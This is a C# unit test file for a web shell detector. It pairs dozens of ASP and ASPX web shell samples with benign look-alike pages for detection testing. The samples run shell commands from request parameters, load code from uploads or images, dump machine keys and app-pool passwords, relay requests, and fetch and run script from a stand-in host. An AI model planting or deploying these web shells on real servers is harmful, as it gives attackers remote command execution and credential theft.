using System.Text;
using Afterpatch.Scripts.WebShells;
using Xunit;

namespace Afterpatch.Scripts.Tests.WebShells;

/// <summary>One mechanism a case: the page that abuses it, and the honest page next to it.</summary>
public sealed class FlowTests
{
    private const string Cs = "<%@ Page Language=\"C#\" %><% ";
    private const string Js = "<%@ Language=JScript %><% ";

    [Theory]
    // An evaluator from a table of properties, by either operand, or from a constructor.
    [InlineData("a.asp", Js + "var run = this['ev' + 'al'] || eval; run(Request('q') + ''); %>")]
    [InlineData("a.asp", Js + "var t = Request('q') || ''; eval(t + ''); %>")]
    [InlineData("a.asp", Js + "var f = []['constr' + 'uctor']['constructor'](Request('q') + ''); f(); %>")]
    [InlineData("a.asp", Js + "(function(){}).constructor(String(Request('q')))(); %>")]
    // Arrays with gaps.
    [InlineData("a.asp", "<% Dim a(3) : a(0) = \"x\" : a(2) = Request(\"i\") : Execute Replace(Join(a, \"\"), \"x\", \"\") %>")]
    // Tasks of the scheduler, services, initialisers without a type.
    [InlineData("a.asp", "<% Set s = CreateObject(\"Schedule.Service\") : s.Connect : Set t = s.NewTask(0) : Set a = t.Actions.Create(0) : a.Path = \"cmd.exe\" : a.Arguments = \"/c \" & Request(\"c\") : s.GetFolder(\"\\\").RegisterTaskDefinition \"n\", t, 6, , , 3 %>")]
    [InlineData("a.aspx", Cs + "var p = new Process { StartInfo = { FileName = \"sc.exe\", Arguments = string.Format(\"create {0} binPath= \\\"{1}\\\"\", Request[\"n\"], Request[\"b\"]) } }; p.Start(); %>")]
    // Names that queries, loops and builders put together.
    [InlineData("a.aspx", Cs + "dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(new string(\"llehS.tpircSW\".ToCharArray().Reverse().ToArray()))); o.Run(\"cmd /c \" + Request[\"w\"]); %>")]
    [InlineData("a.aspx", Cs + "var n = string.Concat(\"dne/fyf\".Select(c => (char)(c - 1))); Process.Start(n, \"/c \" + Request[\"w\"]); %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { string h = \"636d642e657865\", n = \"\"; for (int i = 0; i < h.Length; i += 2) n += (char)Convert.ToInt32(h.Substring(i, 2), 16); Process.Start(n, \"/c \" + Request[\"w\"]); }</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Z(int[] a) { var s = new StringBuilder(); foreach (int i in a) s.AppendFormat(\"{0}\", (char)(i - 3)); return s.ToString(); } void Page_Load(object s, EventArgs e) { Process.Start(Z(new[]{102,112,103}), Z(new[]{50,102,35}) + Request[\"y\"]); }</script>")]
    // Setters by reflection, delegates in fields, tasks.
    [InlineData("a.aspx", Cs + "var t = typeof(Uri).Assembly.GetType(\"System.Diagnostics.Process\"); var p = Activator.CreateInstance(t); var i = t.GetProperty(\"StartInfo\").GetValue(p, null); i.GetType().GetProperty(\"FileName\").SetValue(i, Request[\"f\"], null); t.GetMethod(\"Start\", new Type[0]).Invoke(p, null); %>")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"T\" %>public class T : HttpTaskAsyncHandler { static readonly Func<string, ProcessStartInfo> Make = a => new ProcessStartInfo(Environment.ExpandEnvironmentVariables(\"%COMSPEC%\"), \"/c\" + a); public override async Task ProcessRequestAsync(HttpContext c) { var q = await Task.Run(() => c.Request[\"q\"]); Process.Start(Make(q)); } }")]
    // Stylesheets and object formats.
    [InlineData("a.aspx", Cs + "string x = @\"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform' xmlns:m='urn:schemas-microsoft-com:xslt'><m:script language='C#' implements-prefix='u'>public void r() { System.Diagnostics.Process.Start(\"\"cmd\"\", \"\"/c \"\" + System.Web.HttpContext.Current.Request[\"\"q\"\"]); }</m:script></x:stylesheet>\"; var t = new XslTransform(); t.Load(XmlReader.Create(new StringReader(x))); %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"Msxml2.DOMDocument\") : Set s = CreateObject(\"Msxml2.DOMDocument.6.0\") : s.setProperty \"AllowXsltScript\", True : s.loadXML Request.Form(\"xsl\") : Response.Write x.transformNode(s) %>")]
    [InlineData("a.aspx", Cs + "new ObjectStateFormatter().Deserialize(Request.Headers[\"X-State\"]); %>")]
    [InlineData("a.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : WebService { [WebMethod] public object Parse(string body) { return new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(body); } }")]
    // Relays, any file, any page, any account.
    [InlineData("a.asp", "<% Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\") : x.Open Request.ServerVariables(\"HTTP_X_METHOD\"), Request.ServerVariables(\"HTTP_X_TARGET\"), False : x.Send Request.BinaryRead(Request.TotalBytes) : Response.BinaryWrite x.ResponseBody %>")]
    [InlineData("a.aspx", Cs + "var w = WebRequest.Create(Request.Form[\"h\"] + Request.Form[\"p\"]); w.Method = \"POST\"; var b = Encoding.UTF8.GetBytes(Request.Form[\"d\"]); w.GetRequestStream().Write(b, 0, b.Length); Response.Write(new StreamReader(w.GetResponse().GetResponseStream()).ReadToEnd()); %>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : f.CopyFile Request(\"from\"), Request(\"to\") %>")]
    [InlineData("a.asp", "<% Set s = CreateObject(\"ADODB.Stream\") : s.Open : s.LoadFromFile Request(\"f\") : Response.BinaryWrite s.Read %>")]
    [InlineData("a.asp", "<% Server.Execute Request(\"pg\") %>")]
    [InlineData("a.asp", "<% Set u = GetObject(\"WinNT://./\" & Request(\"n\") & \",user\") : u.SetPassword Request(\"pw\") : u.SetInfo %>")]
    [InlineData("a.aspx", Cs + "Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName)); %>")]
    // Functions made of text, tables of functions, delegates, searched methods, tuples, patterns and queries.
    [InlineData("a.asp", Js + "var F = (0).constructor.constructor; F('r', 'return eval(r)')(String(Request('q'))); %>")]
    [InlineData("a.asp", Js + "new (eval('Function'))(Request('k') + '')(); %>")]
    [InlineData("a.asp", "<% Set w = CreateObject(\"WbemScripting.SWbemLocator\") : Set s = w.ConnectServer(\".\", \"root\\cimv2\") : s.Get(\"Win32_Process\").Create Request(\"c\"), Null, Null, p %>")]
    [InlineData("a.asp", "<% Set c = CreateObject(\"ADODB.Connection\") : c.Open \"x\" : c.Execute \"EXEC sp_configure 'xp_cmdshell',1\" : c.Execute \"exec xp_cmdshell '\" & Request(\"c\") & \"'\" %>")]
    [InlineData("a.aspx", Cs + "var d = new Dictionary<string, Func<string, object>> { { \"r\", s => Process.Start(s) } }; d[\"r\"](Request[\"c\"]); %>")]
    [InlineData("a.aspx", Cs + "var m = typeof(Process).GetMethods().First(x => x.Name == \"Start\"); m.Invoke(null, new object[] { \"cmd\", \"/c \" + Request[\"a\"] }); %>")]
    [InlineData("a.aspx", Cs + "var d = (Func<string, string, Process>)Delegate.CreateDelegate(typeof(Func<string, string, Process>), typeof(Process), \"Start\"); d(\"cmd\", \"/c \" + Request[\"a\"]); %>")]
    [InlineData("a.aspx", Cs + "(string f, string a) = (Request[\"f\"], Request[\"a\"]); Process.Start(f, a); %>")]
    [InlineData("a.aspx", Cs + "if (Request.Form is { Count: > 0 } f) { var (c, _) = (f[\"c\"], 0); Process.Start(\"cmd\", \"/c \" + c); } %>")]
    [InlineData("a.aspx", Cs + "var q = from x in Request.Form.AllKeys where x == \"c\" select Request.Form[x]; Process.Start(\"cmd.exe\", \"/c \" + q.First()); %>")]
    [InlineData("a.aspx", Cs + "Controls.Add(ParseControl(Request[\"s\"])); %>")]
    // Values that travel through initialisers, states, events, matches, records and callbacks.
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>class R { public string C { get; set; } public void Go() { Process.Start(\"cmd\", \"/c \" + C); } } void Page_Load() { var r = new R { C = Request[\"x\"] }; r.Go(); }</script>")]
    [InlineData("a.aspx", Cs + "ThreadPool.QueueUserWorkItem(o => Process.Start(\"cmd\", \"/c \" + o), Request[\"z\"]); %>")]
    [InlineData("a.aspx", Cs + "var q = Request[\"q\"]; var t = new System.Timers.Timer(9); t.Elapsed += (a, b) => Process.Start(\"cmd\", \"/c \" + q); t.Start(); %>")]
    [InlineData("a.aspx", Cs + "var r = new Regex(\"<c>(.*)</c>\").Match(Request[\"d\"]); Process.Start(\"cmd\", \"/c \" + r.Groups[1].Value); %>")]
    [InlineData("a.asp", "<% Set a = CreateObject(\"ADODB.Recordset\") : a.Fields.Append \"x\", 204, 9999 : a.Open : a.AddNew : a(\"x\").AppendChunk Request.BinaryRead(Request.TotalBytes) : Execute CStr(a(\"x\")) %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"Excel.Application\") : x.DDEInitiate \"cmd\", \"/c \" & Request(\"c\") %>")]
    [InlineData("a.asp", Js + "String(Request('q')).replace(/.+/, function(m) { return eval(m); }); %>")]
    [InlineData("a.asp", Js + "[String(Request('q'))].map(eval); %>")]
    [InlineData("a.aspx", Cs + "File.Copy(@\"\\\\\" + Request[\"h\"] + @\"\\s\\x.aspx\", Server.MapPath(\"x.aspx\")); %>")]
    // Secrets.
    [InlineData("a.aspx", Cs + "var mk = (MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(mk.ValidationKey); %>")]
    [InlineData("a.aspx", Cs + "foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.ProcessModel.UserName + p.ProcessModel.Password); %>")]
    // Code in pictures.
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : c = f.OpenTextFile(Server.MapPath(\"i/b.jpg\")).ReadAll : ExecuteGlobal Mid(c, 9) %>")]
    [InlineData("a.aspx", Cs + "foreach (var l in File.ReadAllLines(Server.MapPath(\"logo.gif\"))) if (l.StartsWith(\"//\")) Assembly.Load(Convert.FromBase64String(l.Substring(2))).CreateInstance(\"P\"); %>")]
    [InlineData("a.asp", "<!--#include file=\"upload/avatar.gif\"-->")]
    [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\"/></handlers></system.webServer></configuration>")]
    // Neighbours of what honest pages do: sums that may be code, settings that may be code, uploads and stylesheets without a bound.
    [InlineData("a.asp", "<% x = Request(\"x\") : Set r = New RegExp : r.Pattern = \"^[0-9a-z()+&. ]+$\" : If r.Test(x) Then Response.Write Eval(x) %>")]
    [InlineData("a.asp", "<% x = Request(\"x\") : Set r = New RegExp : r.Pattern = \"[0-9]\" : If r.Test(x) Then Response.Write Eval(x) %>")]
    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & Request(\"a\") & vbCrLf & \"x=1\" & \"%\" & \">\" %>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : Select Case Request(\"a\") : Case 1 : For Each x In f.GetFolder(Server.MapPath(Request(\"d\"))).Files : Response.Write x.Name : Next : Case 2 : Response.Write f.OpenTextFile(Server.MapPath(Request(\"f\"))).ReadAll : Case 3 : f.CreateTextFile(Server.MapPath(Request(\"f\"))).Write Request(\"c\") : End Select %>")]
    [InlineData("a.aspx", Cs + "Request.Files[0].SaveAs(Server.MapPath(Request[\"p\"])); %>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"g.asp\"), 8, True) : f.Write Server.HTMLEncode(Request(\"n\")) & Request(\"m\") %>")]
    [InlineData("a.asp", "<% Set w = CreateObject(\"WScript.Shell\") : Response.Write w.Exec(\"cmd /c \" & Request(\"h\")).StdOut.ReadAll %>")]
    // Neighbours of dispatchers, script hosts, readers of data, guarded editors, downloads and folders that are held against their root.
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"A\" %>public class A : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = Type.GetType(c.Request[\"t\"]); t.InvokeMember(c.Request[\"m\"], BindingFlags.InvokeMethod, null, null, new object[] { c.Request[\"a\"] }); } }")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"A\" %>public class A : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = Type.GetType(\"System.\" + c.Request[\"t\"]); t.InvokeMember(c.Request[\"m\"], BindingFlags.InvokeMethod, null, null, new object[] { c.Request[\"a\"] }); } }")]
    [InlineData("a.aspx", Cs + "Process.Start(\"powershell.exe\", \"-NoProfile -Command \" + Request[\"c\"]); %>")]
    [InlineData("a.aspx", Cs + "Process.Start(\"powershell.exe\", \"-File \" + Request[\"c\"]); %>")]
    [InlineData("a.aspx", Cs + "Process.Start(\"cmd.exe\", \"/c cd c:\\\\ & \" + Request[\"c\"]); %>")]
    [InlineData("a.aspx", Cs + "Process.Start(\"cmd.exe\", \"/c ping -n 1 x & \" + Request[\"c\"]); %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.open \"GET\", \"https://cdn.example.com/a.txt\", False : x.send : Set s = CreateObject(\"MSScriptControl.ScriptControl\") : s.Language = \"JScript\" : s.AddCode x.responseText %>")]
    [InlineData("a.aspx", Cs + "if (Request[\"role\"] == \"Administrators\") File.WriteAllText(Server.MapPath(Request[\"f\"]), Request[\"t\"]); %>")]
    [InlineData("a.aspx", Cs + "Response.WriteFile(Request.QueryString[\"path\"]); %>")]
    // Functions that only look alike from call to call.
    [InlineData("a.asp", Js + "var s = '636d64202f6320', p = 0; function n(x) { return parseInt(s.substr(p++ * 2, 2), 16); } var r = ''; for (var i = 0; i < 7; i++) r += String.fromCharCode(n(Request)); new ActiveXObject('WScript.Shell').Exec(r + Request('q')); %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string G(object t, int d, string k) { if (d > 3) return k; foreach (object o in (IEnumerable)t) k = G(o, d + 1, k) + G(t, d + 2, k); return k; } void Page_Load() { Process.Start(\"cmd\", \"/c \" + G(Session[\"t\"], 0, Request[\"k\"])); }</script>")]
    // Words that mean nothing in the name of an event, and everything outside it.
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"U\").Equals(this); }</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"JScript\" %><% eval(Request.Item[\"k\"], \"unsafe\"); %>")]
    // Names and texts that meet only at run time; properties that keep their value elsewhere; two languages in one page.
    [InlineData("a.aspx", Cs + "File.AppendAllText(Path.Combine(AppDomain.CurrentDomain.BaseDirectory, Request[\"n\"] + \".as\" + \"px\"), Request[\"d\"]); %>")]
    [InlineData("a.aspx", Cs + "object w = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid(\"{72C24DD5-D70A-438B-8A42-98424B88AFB8}\"))); w.GetType().InvokeMember(\"Run\", BindingFlags.InvokeMethod, null, w, new object[] { Request[\"r\"] }); %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"VB\" %><script runat=server>\n<System.Runtime.InteropServices.DllImport(\"msvcrt.dll\", EntryPoint:=\"system\")> _\nPrivate Shared Function Convert1(ByVal v As String) As Integer\nEnd Function\nSub Page_Load()\nTitle = Convert1(Request(\"f\"))\nEnd Sub</script>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Job { get { return (string)Application[\"j\"]; } set { Application[\"j\"] = value; } } void Page_Init() { Job = Request[\"s\"]; } void Page_Load() { Process.Start(Job); }</script>")]
    [InlineData("a.aspx", Cs + "string f = Path.GetTempFileName(); File.WriteAllText(f, Request[\"e\"]); var p = (CodeDomProvider)Activator.CreateInstance(\"System\", \"Microsoft.CSharp.CSharpCodeProvider\").Unwrap(); p.CompileAssemblyFromFile(new CompilerParameters(), f); %>")]
    [InlineData("a.asp", "<%@ Language=VBScript %><script language=JScript runat=server>function pick(o) { return String(o.Form('w')); } function run(c) { return eval(c); }</script><% Response.Write run(pick(Request)) %>")]
    public void Abused(string name, string page) => Is(WebShellVerdict.WebShell, name, page);

    [Theory]
    [InlineData("a.asp", Js + "var make = this['Vec' + 'tor'] || Array; var v = make(3); var o = (new Date()).constructor; %>")]
    [InlineData("a.asp", "<% Dim a(3) : a(0) = \"x\" : a(2) = Request(\"i\") : Response.Write Server.HTMLEncode(Join(a, \",\")) %>")]
    [InlineData("a.asp", "<% For Each f In Request.Form : Execute f & \" = Request.Form(\"\"\" & f & \"\"\")\" : Next %>")]
    [InlineData("a.asp", "<% Set s = CreateObject(\"Schedule.Service\") : s.Connect : For Each t In s.GetFolder(\"\\\").GetTasks(0) : Response.Write t.Name : Next %>")]
    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Ops\")) return; var p = new Process { StartInfo = { FileName = \"sc.exe\", Arguments = \"query \" + Request[\"n\"] } }; p.Start(); %>")]
    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Ops\")) return; Process.Start(@\"%windir%\\system32\\inetsrv\\appcmd.exe\", \"recycle apppool \" + pools.SelectedValue); %><asp:DropDownList id=pools runat=server />")]
    [InlineData("a.aspx", Cs + "var names = Request[\"n\"].Split(',').Select(n => n.Trim()).ToArray(); Response.Write(Server.HtmlEncode(string.Join(\";\", names))); Process.Start(\"tools\\\\thumb.exe\", \"in.png\"); %>")]
    [InlineData("a.aspx", Cs + "var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(\"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform'/>\"))); %>")]
    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>protected override object LoadPageStateFromPersistenceMedium() { return new LosFormatter().Deserialize(Request.Form[\"__PACKEDSTATE\"]); }</script>")]
    [InlineData("a.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : WebService { [WebMethod] public object Parse(string body) { return new JavaScriptSerializer().DeserializeObject(body); } }")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"P\" %>public class P : IHttpHandler { public void ProcessRequest(HttpContext c) { var u = c.Request[\"url\"]; if (!u.StartsWith(\"https://maps.example.org/\")) return; var w = WebRequest.Create(u); w.Method = \"POST\"; c.Request.InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.ServerXMLHTTP\") : x.Open \"POST\", \"https://pay.example.org/api/\" & Request(\"step\"), False : x.Send Request.Form : Response.Write x.ResponseText %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.ServerXMLHTTP\") : x.Open \"GET\", Request(\"feed\"), False : x.Send : Response.Write x.ResponseText %>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : f.CopyFile Server.MapPath(\"templates/\" & Request(\"t\")), Server.MapPath(\"sites/new.htm\") %>")]
    [InlineData("a.asp", "<% Set s = CreateObject(\"ADODB.Stream\") : s.Open : s.LoadFromFile Server.MapPath(\"/docs/\" & Request(\"f\")) : Response.BinaryWrite s.Read %>")]
    [InlineData("a.asp", "<% If Request(\"pg\") = \"news\" Then Server.Execute \"news.asp\" Else Server.Execute \"home.asp\" %>")]
    [InlineData("a.asp", "<!--#include file=\"check_login.asp\"--><% Set u = GetObject(\"WinNT://CORP/\" & Request(\"n\") & \",user\") : u.ChangePassword Request(\"old\"), Request(\"new\") %>")]
    [InlineData("a.aspx", Cs + "if (!User.Identity.IsAuthenticated) return; var f = Request.Files[0]; if (f.ContentLength < 1000000) f.SaveAs(Server.MapPath(\"~/upload/\" + Path.GetFileName(f.FileName))); %>")]
    [InlineData("a.aspx", Cs + "var mk = (MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(mk.ValidationKey.StartsWith(\"AutoGenerate\") ? \"automatic\" : \"fixed\"); %>")]
    [InlineData("a.aspx", Cs + "foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.Name + p.ProcessModel.UserName); %>")]
    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"DbAdmins\")) return; var a = new SqlDataAdapter(sql.Text, ConfigurationManager.ConnectionStrings[\"R\"].ConnectionString); %><asp:TextBox id=sql runat=server />")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>public class U : IHttpHandler { public void ProcessRequest(HttpContext c) { var f = c.Request.Files[\"Filedata\"]; var d = c.Server.MapPath(c.Request[\"folder\"]) + \"\\\\\"; if (!Directory.Exists(d)) Directory.CreateDirectory(d); f.SaveAs(d + f.FileName); } }")]
    [InlineData("a.asp", "<% If InStr(\"+-*/\", Request(\"op\")) > 0 Then Response.Write Eval(CDbl(Request(\"a\")) & Request(\"op\") & CDbl(Request(\"b\"))) %>")]
    [InlineData("a.aspx", Cs + "var x = new XslCompiledTransform(); x.Load(Server.MapPath(\"~/xslt/\" + Path.GetFileName(Request[\"v\"]) + \".xslt\"), XsltSettings.TrustedXslt, null); %>")]
    [InlineData("a.asax", "<%@ Application Language=\"C#\" %><script runat=server>void Application_Start(object s, EventArgs e) { foreach (var f in Directory.GetFiles(Server.MapPath(\"~/plugins\"), \"*.dll\")) Assembly.Load(File.ReadAllBytes(f)); }</script>")]
    [InlineData("a.aspx", Cs + "var b = new SqlConnectionStringBuilder { DataSource = srv.Text, UserID = usr.Text }; using (var c = new SqlConnection(b.ConnectionString)) new SqlCommand(File.ReadAllText(Server.MapPath(\"~/install/schema.sql\")), c).ExecuteNonQuery(); %><asp:TextBox id=srv runat=server /><asp:TextBox id=usr runat=server />")]
    [InlineData("a.asp", Js + "var add = new Function('a', 'b', 'return a + b'); Response.Write(add(Number(Request('a')), Number(Request('b')))); %>")]
    [InlineData("a.aspx", Cs + "var d = new Dictionary<string, Func<string, string>> { { \"up\", s => s.ToUpper() } }; Response.Write(Server.HtmlEncode(d[\"up\"](Request[\"c\"]))); %>")]
    [InlineData("a.aspx", Cs + "var q = from f in Directory.GetFiles(Server.MapPath(\"~/docs\")) where f.EndsWith(\".pdf\") select Path.GetFileName(f); Process.Start(\"tools\\index.exe\", q.First()); %>")]
    [InlineData("a.aspx", Cs + "Controls.Add(ParseControl(\"<asp:Label runat='server' Text='\" + DateTime.Now.Year + \"' />\")); %>")]
    [InlineData("a.aspx", Cs + "var m = new Regex(@\"^([0-9]+)$\").Match(Request[\"d\"]); if (m.Success) Response.Write(int.Parse(m.Groups[1].Value) * 2); %>")]
    [InlineData("a.asp", Js + "Response.Write(String(Request('q')).replace(/[<>&]/g, function(m) { return '&#' + m.charCodeAt(0) + ';'; })); %>")]
    [InlineData("a.aspx", Cs + "ThreadPool.QueueUserWorkItem(o => File.AppendAllText(Server.MapPath(\"~/App_Data/hits.log\"), (string)o), Request.UserHostAddress); %>")]
    [InlineData("a.aspx", Cs + "File.Copy(Server.MapPath(\"~/templates/default.aspx\"), Server.MapPath(\"~/site/default.aspx\"), true); %>")]
    [InlineData("a.asp", "<!--#include file=\"inc/header.inc\"-->")]
    [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"Shop.ImageHandler, Shop\"/></handlers></system.webServer></configuration>")]
    // Old sites' administration: sums, settings kept in a script, templates, copies of a database, pictures of other sites.
    [InlineData("a.asp", "<% x = Left(Request(\"x\"), 60) : Set r = New RegExp : r.Pattern = \"^[0-9+\\-*/(). ]+$\" : If r.Test(x) Then Response.Write Eval(x) %>")]
    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"conf.asp\")) : f.Write \"<\" & \"%\" & vbCrLf & \"Const Title=\"\"\" & Replace(Request(\"t\"), \"\"\"\", \"\") & \"\"\"\" & vbCrLf & \"Const Size=\" & CInt(Request(\"s\")) & vbCrLf & \"%\" & \">\" %>")]
    [InlineData("a.asp", "<!--#include file=\"chkadmin.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\") : Select Case Request(\"a\") : Case 1 : For Each x In f.GetFolder(Server.MapPath(Request(\"d\"))).Files : Response.Write x.Name : Next : Case 2 : Response.Write f.OpenTextFile(Server.MapPath(Request(\"f\"))).ReadAll : Case 3 : f.CreateTextFile(Server.MapPath(Request(\"f\"))).Write Request(\"c\") : End Select %>")]
    [InlineData("a.asp", "<!--#include file=\"admin_check.asp\"--><% Set f = CreateObject(\"Scripting.FileSystemObject\") : If Not f.FolderExists(Server.MapPath(Request(\"b\"))) Then f.CreateFolder Server.MapPath(Request(\"b\")) : End If : f.CopyFile Server.MapPath(Request(\"db\")), Server.MapPath(Request(\"b\")) & \"\\\" & Request(\"n\") : conn.Execute Request(\"sql\") %>")]
    [InlineData("a.asp", "<% For Each m In re.Execute(Request.Form(\"c\")) : Set x = CreateObject(\"Microsoft.XMLHTTP\") : x.Open \"GET\", m.Value, False : x.Send : Set s = CreateObject(\"ADODB.Stream\") : s.Type = 1 : s.Open : s.Write x.ResponseBody : s.SaveToFile Server.MapPath(\"../up/\" & Timer & \".\" & Right(m.Value, 3)), 2 : Next : re.Pattern = \"(http):\\/\\/(\\S+)\\.(gif|jpg|jpeg|png)\" %>")]
    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(Server.MapPath(\"g.asp\"), 8, True) : f.Write \"<p>\" & Server.HTMLEncode(Request(\"n\")) & \"</p>\" %>")]
    [InlineData("a.asp", "<% Set w = CreateObject(\"WScript.Shell\") : Response.Write Server.HTMLEncode(w.Exec(\"nslookup \" & Replace(Request(\"h\"), \"&\", \"\")).StdOut.ReadAll) %>")]
    [InlineData("a.asp", "<% For Each k In Request.Form : Execute k & \" = Request.Form(k)\" : Next : Execute \"title = title_\" & Request(\"lang\") : If Eval(cond) Then Response.Write title %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"Microsoft.XMLDOM\") : x.load Server.MapPath(Request(\"xml\")) : Set s = CreateObject(\"Microsoft.XMLDOM\") : s.load Server.MapPath(Request(\"xsl\")) : Response.Write x.transformNode(s) %>")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.ContentType = \"text/plain\"; if (c.Request.Files.Count == 0) return; HttpPostedFile posted = c.Request.Files[0]; string folder = c.Request.QueryString[\"folder\"].ToSafe(); if (folder == string.Empty) folder = \"/files/images/\"; string name = c.Request.QueryString[\"filename\"].ToSafe(); if (name == string.Empty) name = Guid.NewGuid().ToString(); Folders.Make(c.Server.MapPath(folder)); name = folder + name.Replace(\"-\", \"\") + Path.GetExtension(posted.FileName); posted.SaveAs(c.Server.MapPath(name)); c.Response.Write(name); } public bool IsReusable { get { return false; } } }")]
    [InlineData("a.aspx", Cs + "var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"R\"].ConnectionString); c.Open(); grid.DataSource = new SqlCommand(sql.Text, c).ExecuteReader(); %><asp:TextBox id=sql runat=server />")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"A\" %>public class A : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = Assembly.GetExecutingAssembly().GetType(\"Site.Ajax.\" + c.Request[\"t\"]); var r = t.GetMethod(c.Request[\"m\"]).Invoke(Activator.CreateInstance(t), new object[] { c }); c.Response.Write(new JavaScriptSerializer().Serialize(r)); } }")]
    [InlineData("a.aspx", Cs + "Process.Start(\"powershell.exe\", \"-NoProfile -File C:\\\\Scripts\\\\Unlock.ps1 -User \" + Request[\"u\"]); %>")]
    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.open \"GET\", \"https://api.example.com/rates\", False : x.send : Set s = CreateObject(\"MSScriptControl.ScriptControl\") : s.Language = \"JScript\" : s.AddCode \"function g(){return (\" & x.responseText & \");}\" : Response.Write s.Run(\"g\").eur %>")]
    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Administrators\")) Response.End(); if (!IsPostBack) t.Text = File.ReadAllText(Server.MapPath(Request[\"f\"])); else File.WriteAllText(Server.MapPath(Request[\"f\"]), t.Text); %><asp:TextBox id=t runat=server />")]
    [InlineData("a.aspx", Cs + "Response.ContentType = \"application/pdf\"; Response.WriteFile(Request.QueryString[\"path\"]); %>")]
    [InlineData("a.aspx", Cs + "var s = new ManagementScope(\"\\\\\\\\\" + Request[\"m\"] + \"\\\\root\\\\cimv2\"); foreach (ManagementObject d in new ManagementObjectSearcher(s, new ObjectQuery(\"select * from Win32_LogicalDisk\")).Get()) Response.Write(d[\"Name\"]); %>")]
    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"R\" %>public class R : IHttpHandler { HttpContext c; string Root() { return c.Server.MapPath(\"~/Uploads\"); } string Fix(string p) { return c.Server.MapPath(\"~/\" + p); } void Check(string p) { if (Fix(p).IndexOf(Root()) != 0) throw new Exception(); } public void ProcessRequest(HttpContext x) { c = x; Check(c.Request[\"d\"]); switch (c.Request[\"a\"]) { case \"list\": foreach (var f in Directory.GetFiles(Fix(c.Request[\"d\"]))) c.Response.Write(f); break; case \"del\": File.Delete(Fix(c.Request[\"d\"])); break; case \"mk\": Directory.CreateDirectory(Fix(c.Request[\"d\"])); break; case \"get\": c.Response.TransmitFile(Fix(c.Request[\"d\"])); break; } } }")]
    // Template engines, providers of an application's own.
